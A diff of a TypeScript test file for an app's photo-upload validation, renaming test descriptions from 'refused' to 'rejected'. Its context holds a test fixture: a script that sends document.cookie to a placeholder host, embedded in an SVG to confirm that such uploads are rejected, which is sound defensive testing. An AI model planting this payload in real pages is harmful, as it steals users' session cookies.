@@ -91,7 +91,7 @@ describe('a photo', () => {
 
 const script = '<script>fetch("https://example.org/"+document.cookie)</script>'
 
-describe('what is no photo is refused', () => {
+describe('what is no photo is rejected', () => {
   it.each<[string, () => Buffer | Promise<Buffer>]>([
     ['an SVG with a script', () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`)],
     [
@@ -175,7 +175,7 @@ describe('an upload', () => {
     }
   })
 
-  it('is refused in the language that it says itself', async () => {
+  it('is rejected in the language that it says itself', async () => {
     const { token } = await aMember(app)
     const { errorMessage } = await app.call('uploadUserIcon', { file: Buffer.from('x') }, { token, lang: 'en_US' })
     expect(errorMessage).toBe('We can’t open this picture. Please choose another photo.')
